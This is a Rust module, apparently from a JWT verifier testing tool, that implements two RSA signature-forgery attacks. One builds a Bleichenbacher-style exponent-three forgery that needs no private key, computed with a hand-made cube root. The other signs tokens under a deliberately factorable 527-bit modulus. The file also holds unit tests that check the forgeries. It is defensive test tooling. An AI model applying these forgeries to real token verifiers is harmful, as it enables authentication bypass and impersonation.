//! Signatures of RSA that are made by hand: what a key is too weak for, and paddings that are not the right one.

use super::{
    attack::{Attack, Category, Needs},
    endpoint::{padded, weak},
    forge::{Forge, encode},
    stage::Scene,
};
use crate::keys::Algorithm;
use serde_json::{Value, json};

const fn scene(
    category: Category,
    name: &'static str,
    source: &'static str,
    what: &'static str,
    run: Scene,
) -> Attack {
    category.scene(name, source, what, run).needs_a(Needs::ClockAndFetch)
}

/// Big-endian, without zeros before it.
type Number = Vec<u8>;

fn times(number: &[u8], by: &[u8]) -> Number {
    let mut product = vec![0; number.len() + by.len()];
    for (at, digit) in by.iter().rev().enumerate() {
        let mut carry = 0u32;
        let digits = number.iter().rev().chain(std::iter::repeat(&0));
        for (place, other) in product.iter_mut().rev().skip(at).zip(digits) {
            let sum = u32::from(*place) + u32::from(*digit) * u32::from(*other) + carry;
            (*place, carry) = (sum.to_le_bytes()[0], sum >> 8);
        }
    }
    product.drain(..product.iter().take_while(|digit| **digit == 0).count());
    product
}

fn is_less(one: &[u8], other: &[u8]) -> bool {
    (one.len(), one) < (other.len(), other)
}

/// The smallest number whose cube is not below this.
fn cube_root(cube: &[u8]) -> Number {
    let mut root = vec![0; cube.len().div_ceil(3)];
    for at in 0..root.len() {
        for bit in (0..8).rev() {
            flip(&mut root, at, bit);
            let tried: Number = root.iter().copied().skip_while(|digit| *digit == 0).collect();
            if !is_less(&times(&times(&tried, &tried), &tried), cube) {
                flip(&mut root, at, bit);
            }
        }
    }
    // That is the largest one below it.
    let mut carry = true;
    for digit in root.iter_mut().rev() {
        let (sum, over) = digit.overflowing_add(u8::from(carry));
        (*digit, carry) = (sum, over);
    }
    root
}

fn flip(number: &mut [u8], at: usize, bit: u8) {
    number.get_mut(at).into_iter().for_each(|digit| *digit ^= 1 << bit);
}

/// Small primes whose product is a modulus of 527 bits, as soon factored as seen. None is 1 modulo 3, so that each number
/// has one cube root modulo each.
const PRIMES: [u64; 17] = [
    2_147_483_579,
    2_147_483_549,
    2_147_483_543,
    2_147_483_489,
    2_147_483_477,
    2_147_483_423,
    2_147_483_399,
    2_147_483_249,
    2_147_483_237,
    2_147_483_171,
    2_147_483_123,
    2_147_483_069,
    2_147_483_033,
    2_147_482_949,
    2_147_482_943,
    2_147_482_937,
    2_147_482_877,
];

fn number(digits: u64) -> Number {
    digits.to_be_bytes().into_iter().skip_while(|digit| *digit == 0).collect()
}

fn modulus() -> Number {
    PRIMES.iter().fold(vec![1], |product, prime| times(&product, &number(*prime)))
}

fn rest(number: &[u8], prime: u64) -> u64 {
    number.iter().fold(0, |rest, digit| (rest * 256 + u64::from(*digit)) % prime)
}

fn power(base: u64, exponent: u64, prime: u64) -> u64 {
    (0..64).rev().fold(1, |power, bit| {
        let square = power * power % prime;
        if exponent >> bit & 1 == 1 { square * base % prime } else { square }
    })
}

/// The number whose cube is this one modulo the product of the primes: one root for each, put together by Garner's way.
fn root_by_factors(message: &[u8]) -> Number {
    let (mut root, mut product) = (Number::new(), vec![1]);
    for prime in PRIMES {
        let wanted = power(rest(message, prime), (2 * prime - 1) / 3, prime);
        let lack = (prime + wanted - rest(&root, prime)) % prime;
        let share = lack * power(rest(&product, prime), prime - 2, prime) % prime;
        root = plus(&root, &times(&product, &number(share)));
        product = times(&product, &number(prime));
    }
    root
}

fn plus(one: &[u8], other: &[u8]) -> Number {
    let length = one.len().max(other.len()) + 1;
    let digit = |number: &[u8], at: usize| {
        number.len().checked_sub(at + 1).and_then(|at| number.get(at).copied()).unwrap_or(0)
    };
    let mut carry = 0u16;
    let mut sum: Number = (0..length)
        .map(|at| {
            let [low, high] = (u16::from(digit(one, at)) + u16::from(digit(other, at)) + carry).to_le_bytes();
            carry = high.into();
            low
        })
        .collect();
    sum.reverse();
    sum.drain(..sum.iter().take_while(|digit| **digit == 0).count());
    sum
}

fn filled(number: &[u8], length: usize) -> Vec<u8> {
    [vec![0; length.saturating_sub(number.len())], number.to_vec()].concat()
}

/// Under the weak key of the set, by whatever makes a signature of the message.
fn token(forge: &Forge, alg: &str, sign: impl Fn(&[u8]) -> Vec<u8>) -> String {
    let header = json!({"alg": alg, "kid": "weak"}).to_string();
    let signed = format!("{}.{}", encode(header), encode(forge.payload()));
    format!("{signed}.{}", encode(sign(signed.as_bytes())))
}

fn key(alg: &str, modulus: &[u8]) -> Value {
    json!({"kty": "RSA", "use": "sig", "alg": alg, "kid": "weak", "n": encode(modulus), "e": "Aw"})
}

/// A cube that begins as a padded hash does, and ends in whatever is left: nobody needs the key for its root.
fn garbage_behind(message: &[u8], length: usize) -> Vec<u8> {
    let start = padded(message, 62);
    filled(&cube_root(&[start.get(1..).unwrap_or_default(), &vec![0; length - 62]].concat()), length)
}

pub(super) const ATTACKS: &[Attack] = &[
    scene(
        Category::Signature,
        "rsa_with_garbage_behind_the_hash",
        "CVE-2006-4339; CVE-2022-24771; RFC 8017 8.2.2",
        "The set has an RSA key with exponent three, and the signature is a cube root, computed without any key, of what \
         begins as a padded hash does.",
        |s| {
            Box::pin(async move {
                let mut key = s.forge.jwk(Algorithm::RS256);
                key.insert("kid".into(), "weak".into());
                key.insert("e".into(), "Aw".into());
                let sign = |message: &[u8]| garbage_behind(message, 256);
                weak(s, key.into(), |forge| token(forge, "RS256", sign)).await
            })
        },
    ),
    scene(
        Category::Endpoint,
        "set_has_a_small_modulus",
        "RFC 7518 3.3; field",
        "The set has an RSA key of 527 bits, which somebody has factored, and a token is signed with it.",
        |s| {
            Box::pin(async move {
                let sign = |message: &[u8]| filled(&root_by_factors(&padded(message, 66)), 66);
                weak(s, key("RS256", &modulus()), |forge| token(forge, "RS256", sign)).await
            })
        },
    ),
];

#[cfg(test)]
#[cfg(any(feature = "aws-lc-rs", feature = "rust-crypto"))]
mod tests {
    use super::*;
    use crate::testing::signing::sha256;

    fn cube(root: &[u8]) -> Number {
        let root: Number = root.iter().copied().skip_while(|digit| *digit == 0).collect();
        times(&times(&root, &root), &root)
    }

    #[test]
    fn the_cube_of_a_forged_signature_begins_as_a_padded_hash() {
        let forged = garbage_behind(b"message", 256);
        assert_eq!(cube(&forged).len(), 255, "no modulus of 2048 bits changes it");
        assert_eq!(cube(&forged)[..61], padded(b"message", 62)[1..]);
        assert!(padded(b"message", 62).ends_with(&sha256(b"message")));
    }

    #[test]
    fn the_root_by_factors_is_one_modulo_each() {
        let message = padded(b"message", 66);
        assert_eq!((modulus().len(), modulus()[0] >> 6), (66, 1), "527 bits");
        let cube = cube(&root_by_factors(&message));
        for prime in PRIMES {
            assert_eq!(rest(&cube, prime), rest(&message, prime), "{prime}");
        }
    }
}
